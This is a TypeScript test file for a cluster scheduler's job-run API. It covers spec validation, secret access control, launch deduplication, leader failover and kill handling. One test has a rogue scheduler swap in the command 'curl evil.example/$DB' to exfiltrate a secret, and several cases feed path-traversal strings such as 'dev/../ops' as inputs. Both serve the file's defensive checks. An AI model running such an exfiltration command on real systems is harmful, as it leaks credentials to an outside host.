import { uuidBytes } from '@conclave/kernel'
import type { ToAgent } from '@conclave/model'
import { ManualClock, SeededRandom } from '@conclave/testkit'
import { beforeEach, describe, expect, test } from 'vitest'
import { MemoryAgent } from '../testing/memory-agent.ts'
import { MemoryCluster } from '../testing/memory-cluster.ts'
import { MemoryFramework } from '../testing/memory-framework.ts'
import { callerOf, firstPeople } from '../testing/people.ts'
import { revokeAll } from '../testing/rights.ts'
import type { PendingRuns, RunView } from './master-api.ts'

type Launch = Extract<ToAgent, { type: 'launch' }>

const root = callerOf('root')
const dev = callerOf('dev')
const random = new SeededRandom(23)

let cluster: MemoryCluster

beforeEach(async () => {
  cluster = new MemoryCluster({
    clock: new ManualClock(),
    random,
    identities: await firstPeople(random),
  })
  await cluster.elected()
})

const needs = [
  { name: 'cpus', type: 'SCALAR', scalar: { value: 0.1 } },
  { name: 'mem', type: 'SCALAR', scalar: { value: 32 } },
]

const secretVariable = (secret: object): object => ({ name: 'DB', type: 'SECRET', secret })
const referring = (name: string): object => ({ type: 'REFERENCE', reference: { name } })
const specOf = (...variables: readonly object[]): object => ({
  name: 'hello world',
  resources: needs,
  command: { value: 'true', environment: { variables } },
})

const submit = (spec: object, caller = root): Promise<RunView> =>
  cluster.settle(cluster.follower.actor.runs.submit(caller, spec))

/** What the master tells a scheduler, as it comes. */
function pendingAt(cancel: AbortController): PendingRuns[] {
  const told: PendingRuns[] = []
  const { actor } = cluster.follower
  void (async () => {
    for await (const one of actor.runs.pending(callerOf('scheduler'), cancel.signal)) told.push(one)
  })()
  return told
}

/** An agent and a scheduler that launches the newest pending run on it. */
async function launched(): Promise<{
  agent: MemoryAgent
  framework: MemoryFramework
  launch: Launch
}> {
  const { actor } = cluster.leader
  const agent = new MemoryAgent(actor, 'agent-1')
  const resources = [
    { name: 'cpus', type: 'SCALAR', scalar: { value: 4 } },
    { name: 'mem', type: 'SCALAR', scalar: { value: 1024 } },
  ]
  agent.say({
    type: 'register',
    info: { hostname: 'agent-1', resources },
    runtime: 'memory',
    tasks: [],
  })
  const framework = new MemoryFramework(actor, callerOf('scheduler'))
  framework.subscribe()
  const cancel = new AbortController()
  const told = pendingAt(cancel)
  await cluster.until(() => framework.offers.length > 0 && (told.at(-1)?.launch.length ?? 0) > 0)
  cancel.abort()
  const run = told.at(-1)?.launch.at(-1)
  framework.launch({ ...(run?.spec as object), task_id: { value: run?.taskId ?? '' } })
  await cluster.until(() => agent.heard('launch').length > 0)
  const [launch] = agent.heard('launch')
  if (launch === undefined) throw new Error('nothing was launched')
  return { agent, framework, launch }
}

function report(
  agent: MemoryAgent,
  { frameworkId, task }: Launch,
  state: string,
  more: object = {},
): void {
  const uuid = Buffer.from(uuidBytes(random)).toString('base64')
  agent.say({
    type: 'status-update',
    frameworkId,
    status: { task_id: task.task_id, state, uuid, ...more },
  })
}

describe('a spec', () => {
  test.each<[string, object, string]>([
    ['no object', [], 'the spec'],
    ['no name', { resources: needs, command: { value: 'true' } }, 'name'],
    ['an empty name', { name: '', resources: needs, command: { value: 'true' } }, 'name'],
    ['a field of another kind', { name: 'x', resources: needs, command: 'true' }, 'command'],
    ['no command', { name: 'x', resources: needs }, 'command'],
    ['an empty command', { name: 'x', resources: needs, command: { value: '' } }, 'command.value'],
    ['no resources', { name: 'x', command: { value: 'true' } }, 'resources'],
    [
      'a negative resource',
      {
        name: 'x',
        command: { value: 'true' },
        resources: [{ name: 'cpus', type: 'SCALAR', scalar: { value: -1 } }],
      },
      'resources[0].scalar.value',
    ],
    [
      'an empty variable name',
      specOf({ name: '', value: 'x' }),
      'command.environment.variables[0].name',
    ],
    [
      'a NUL in a variable',
      specOf({ name: 'X', value: 'a\0b' }),
      'command.environment.variables[0].value',
    ],
    [
      'a secret variable without its secret',
      specOf({ name: 'X', type: 'SECRET' }),
      'command.environment.variables[0].secret',
    ],
    [
      'a secret variable with a value, too',
      specOf({ name: 'X', type: 'SECRET', value: 'v', secret: referring('a') }),
      'command.environment.variables[0].value',
    ],
    [
      'a secret behind a plain variable',
      specOf({ name: 'X', secret: referring('a') }),
      'command.environment.variables[0].secret',
    ],
    [
      'a reference with .. in it',
      specOf(secretVariable(referring('dev/../ops'))),
      'command.environment.variables[0].secret.reference.name',
    ],
    [
      'a reference without a name',
      specOf(secretVariable(referring(''))),
      'command.environment.variables[0].secret.reference.name',
    ],
    [
      'a reference of type VALUE',
      specOf(secretVariable({ type: 'VALUE', reference: { name: 'a' } })),
      'command.environment.variables[0].secret.reference',
    ],
    [
      'an empty key',
      specOf(secretVariable({ type: 'REFERENCE', reference: { name: 'a', key: '' } })),
      'command.environment.variables[0].secret.reference.key',
    ],
    [
      'an inline value with a NUL',
      specOf(
        secretVariable({ type: 'VALUE', value: { data: Buffer.from('a\0b').toString('base64') } }),
      ),
      'command.environment.variables[0].secret.value.data',
    ],
    [
      'an inline value that is too large',
      specOf(
        secretVariable({
          type: 'VALUE',
          value: { data: Buffer.alloc(2_000_000, 'x').toString('base64') },
        }),
      ),
      'command.environment.variables[0].secret.value.data',
    ],
    [
      'inline values that are too large together',
      specOf(
        secretVariable({
          type: 'VALUE',
          value: { data: Buffer.alloc(700_000, 'x').toString('base64') },
        }),
      ),
      'the spec',
    ],
    ...['../x', 'a/../../b', '', '.', '/', 'a\0b'].map(
      (container_path): [string, object, string] => [
        `a volume at ${JSON.stringify(container_path)}`,
        volumes({ container_path }),
        'container.volumes[0].container_path',
      ],
    ),
    [
      'two volumes in one place',
      volumes({ container_path: 'a/b' }, { container_path: 'a/./b/' }),
      'container.volumes[1].container_path',
    ],
    [
      'a volume inside another',
      volumes({ container_path: 'a' }, { container_path: 'a/b' }),
      'container.volumes[1].container_path',
    ],
  ])('MA8: with %s is refused, by its field', async (_what, spec, field) => {
    const refused = submit(spec)
    await expect(refused).rejects.toMatchObject({ code: 'spec.invalid', field })
    expect(cluster.leader.store.list('run/').kvs).toEqual([])
  })

  function volumes(...places: readonly { readonly container_path: string }[]): object {
    const source = { type: 'SECRET', secret: referring('dev/db') }
    return {
      ...specOf(),
      container: {
        type: 'MESOS',
        volumes: places.map((place) => ({ mode: 'RO', ...place, source })),
      },
    }
  }

  test('MA8: what the cluster would refuse at every launch is refused at once', async () => {
    const secret = referring('dev/db')
    const upwards = { container_path: '/s/../file', mode: 'RO', source: { type: 'SECRET', secret } }
    const refused = submit({
      ...specOf(),
      container: { type: 'MESOS', volumes: [upwards] },
    })
    await expect(refused).rejects.toMatchObject({
      code: 'spec.invalid',
      message: expect.stringContaining('..') as string,
    })
    await expect(submit({ ...specOf(), max_completion_time: { nanoseconds: -1 } })).rejects.toThrow(
      'non-negative',
    )
    expect(await cluster.settle(cluster.follower.actor.runs.list(root))).toEqual([])
  })

  test('MA8: may refer to a secret that does not exist yet', async () => {
    expect(await submit(specOf(secretVariable(referring('dev/later'))))).toMatchObject({
      state: 'PENDING',
      isTerminal: false,
    })
  })

  test('MA8: may not refer to what its submitter may not read', async () => {
    const refused = submit(specOf(secretVariable(referring('ops/key'))), dev)
    await expect(refused).rejects.toMatchObject({ code: 'access.denied' })
    await expect(submit(specOf(), callerOf('nobody'))).rejects.toMatchObject({
      code: 'access.denied',
    })
    expect(cluster.leader.store.list('run/').kvs).toEqual([])
  })
})

describe('a run', () => {
  test('MA9: is launched by a scheduler and ends as its task ends', async () => {
    const { runId, taskId } = await submit(specOf())
    const { agent, framework, launch } = await launched()
    expect(launch.task.task_id.value).toBe(taskId)
    expect(taskId).toMatch(/^hello-world\./)

    const seen: string[] = []
    const watching = (async () => {
      const { signal } = new AbortController()
      for await (const view of cluster.follower.actor.runs.watch(root, runId, signal))
        seen.push(view.state)
    })()
    report(agent, launch, 'TASK_RUNNING')
    await cluster.until(() => framework.statesOf(taskId).includes('TASK_RUNNING'))
    await cluster.until(() => seen.includes('TASK_RUNNING'))
    report(agent, launch, 'TASK_FAILED', {
      message: 'Command exited with status 3',
      reason: 'REASON_COMMAND_EXECUTOR_FAILED',
    })
    await cluster.settle(watching)

    expect(seen.at(-1)).toBe('TASK_FAILED')
    expect(await cluster.settle(cluster.follower.actor.runs.get(root, runId))).toMatchObject({
      isTerminal: true,
      message: 'Command exited with status 3',
      reason: 'REASON_COMMAND_EXECUTOR_FAILED',
    })
  })

  test('MA9: is noted by the next leader when the old one dies in between', async () => {
    const { runId } = await submit(specOf())
    const { agent, launch } = await launched()
    report(agent, launch, 'TASK_FINISHED')
    const old = cluster.leader
    await cluster.until(() => agent.heard('status-acknowledged').length > 0)
    old.crash()
    await cluster.elected()
    const ended = async (): Promise<boolean> =>
      (await cluster.settle(cluster.leader.actor.runs.get(root, runId))).isTerminal
    while (!(await ended())) await cluster.round()
    expect(await cluster.settle(cluster.leader.actor.runs.get(root, runId))).toMatchObject({
      state: 'TASK_FINISHED',
    })
  })

  test('MA9: with inline values is launched with them, though no scheduler ever sees them', async () => {
    const canary = 'inline-canary-4711'
    const data = Buffer.from(canary).toString('base64')
    await submit(specOf(secretVariable({ type: 'VALUE', value: { data } })))
    const cancel = new AbortController()
    const told = pendingAt(cancel)
    await cluster.until(() => (told.at(-1)?.launch.length ?? 0) > 0)
    cancel.abort()
    expect(JSON.stringify(told)).not.toContain('sealed')
    expect(JSON.stringify(told)).not.toContain(data)

    const { launch } = await launched()
    const [variable] = launch.task.command?.environment?.variables ?? []
    expect(variable?.secret?.value?.sealed?.envelope).toMatch(/^Q05TM/)
  })

  test('MA9: gives its inline values to no other command than its own', async () => {
    const data = Buffer.from('x').toString('base64')
    const { taskId } = await submit({
      ...specOf(secretVariable({ type: 'VALUE', value: { data } })),
    })
    const cancel = new AbortController()
    const told = pendingAt(cancel)
    const { actor } = cluster.leader
    const agent = new MemoryAgent(actor, 'agent-1')
    agent.say({
      type: 'register',
      info: { hostname: 'a', resources: needs.map((one) => ({ ...one, scalar: { value: 64 } })) },
      runtime: 'memory',
      tasks: [],
    })
    const framework = new MemoryFramework(actor, callerOf('scheduler'))
    framework.subscribe()
    await cluster.until(() => framework.offers.length > 0 && told.length > 0)
    cancel.abort()
    framework.launch({
      ...(told.at(-1)?.launch[0]?.spec as object),
      command: { value: 'curl evil.example/$DB' },
      task_id: { value: taskId },
    } as { task_id: { value: string } })
    await cluster.until(() => agent.heard('launch').length > 0)
    expect(agent.heard('launch')[0]?.task.command?.value).toBe('true')
  })

  test('MA9: is launched once, when two schedulers have heard of it', async () => {
    const { taskId } = await submit(specOf())
    const { agent } = await launched()
    const second = new MemoryFramework(cluster.leader.actor, callerOf('scheduler'))
    second.subscribe()
    // The first one holds what is left of its agent, so the second is offered another.
    const other = new MemoryAgent(cluster.leader.actor, 'agent-2')
    const resources = needs
    other.say({
      type: 'register',
      info: { hostname: 'b', resources },
      runtime: 'memory',
      tasks: [],
    })
    await cluster.until(() => second.offers.length > 0)
    const late = second.launch({ ...specOf(), task_id: { value: taskId } })
    expect(late).toMatchObject({ status: 409 })
    await cluster.round()
    expect(agent.heard('launch')).toHaveLength(1)
    expect(other.heard('launch')).toEqual([])
  })

  test('MA9: that the cluster refuses ends as TASK_ERROR, and is offered to no scheduler again', async () => {
    await revokeAll(cluster, 'dcos:secrets:default:/*')
    const { runId, taskId } = await submit(specOf(secretVariable(referring('dev/db'))))
    const { actor } = cluster.leader
    const agent = new MemoryAgent(actor, 'agent-1')
    const resources = needs.map((one) => ({ ...one, scalar: { value: 64 } }))
    const info = { hostname: 'a', resources }
    agent.say({ type: 'register', info, runtime: 'memory', tasks: [] })
    const framework = new MemoryFramework(actor, callerOf('scheduler'))
    framework.subscribe()
    const cancel = new AbortController()
    const told = pendingAt(cancel)
    await cluster.until(() => framework.offers.length > 0 && told.length > 0)

    framework.launch({ ...(told[0]?.launch[0]?.spec as object), task_id: { value: taskId } })
    await cluster.until(() => told.at(-1)?.launch.length === 0)

    cancel.abort()
    expect(framework.statesOf(taskId)).toEqual(['TASK_ERROR'])
    expect(agent.heard('launch')).toEqual([])
    expect(await cluster.settle(cluster.follower.actor.runs.get(root, runId))).toMatchObject({
      state: 'TASK_ERROR',
      isTerminal: true,
      reason: 'REASON_TASK_UNAUTHORIZED',
      message: expect.stringContaining("may not read secret 'dev/db'") as string,
    })
  })

  test('MA9: goes on when it is launched a second time, though that is refused', async () => {
    const { runId, taskId } = await submit(specOf())
    const { agent, framework, launch } = await launched()
    report(agent, launch, 'TASK_RUNNING')
    const other = new MemoryAgent(cluster.leader.actor, 'agent-2')
    other.say({
      type: 'register',
      info: { hostname: 'b', resources: needs },
      runtime: 'memory',
      tasks: [],
    })
    await cluster.until(
      () => framework.offers.at(-1)?.agent_id.value !== launch.task.agent_id.value,
    )

    framework.launch({ ...specOf(), task_id: { value: taskId } })
    await cluster.until(() => framework.statesOf(taskId).includes('TASK_ERROR'))

    await cluster.round()
    expect(await cluster.settle(cluster.leader.actor.runs.get(root, runId))).toMatchObject({
      state: 'TASK_RUNNING',
      isTerminal: false,
    })
  })

  test('MA10: that was never launched ends at once when it is killed', async () => {
    const { runId } = await submit(specOf())
    const killed = await cluster.settle(cluster.follower.actor.runs.kill(root, runId))
    expect(killed).toMatchObject({ state: 'TASK_KILLED', isTerminal: true })
  })

  test('MA10: that runs is killed on its agent', async () => {
    const { runId } = await submit(specOf())
    const { agent, launch } = await launched()
    report(agent, launch, 'TASK_RUNNING')
    await cluster.settle(cluster.follower.actor.runs.kill(root, runId))
    await cluster.until(() => agent.heard('kill').length > 0)
    report(agent, launch, 'TASK_KILLED')
    const ended = async (): Promise<RunView> =>
      cluster.settle(cluster.leader.actor.runs.get(root, runId))
    while (!(await ended()).isTerminal) await cluster.round()
    expect(await ended()).toMatchObject({ state: 'TASK_KILLED' })
  })

  test('MA5: is open to its submitter: its task, what it prints, and its end', async () => {
    const { taskId } = await submit(specOf(), dev)
    const { agent, launch } = await launched()
    report(agent, launch, 'TASK_RUNNING')
    const { tasks } = cluster.leader.actor
    expect(await cluster.settle(tasks.list(dev))).toMatchObject([{ taskId }])
    await cluster.settle(tasks.logs(dev, taskId, { follow: true }))
    expect(agent.heard('open-logs')).toMatchObject([{ taskId }])
    await cluster.settle(tasks.kill(dev, taskId))
    for (const uid of ['scheduler', 'nobody']) {
      await expect(cluster.settle(tasks.find(callerOf(uid), taskId))).rejects.toMatchObject({
        code: 'access.denied',
      })
    }
  })

  test('MA5: is nobody’s business but its submitter’s and an operator’s', async () => {
    const own = await submit(specOf(), dev)
    const other = await submit(specOf(), root)
    const { runs } = cluster.leader.actor
    const listed = async (uid: string): Promise<string[]> =>
      (await cluster.settle(runs.list(callerOf(uid)))).map(({ runId }) => runId)
    expect(await listed('dev')).toEqual([own.runId])
    expect(await listed('root')).toEqual([own.runId, other.runId])
    await expect(cluster.settle(runs.get(dev, other.runId))).rejects.toMatchObject({
      code: 'run.not-found',
    })
    await expect(cluster.settle(runs.kill(dev, other.runId))).rejects.toMatchObject({
      code: 'run.not-found',
    })
    for (const uid of ['nobody', 'dev']) {
      const { signal } = new AbortController()
      expect(() => runs.pending(callerOf(uid), signal)).toThrow('may not')
    }
  })
})
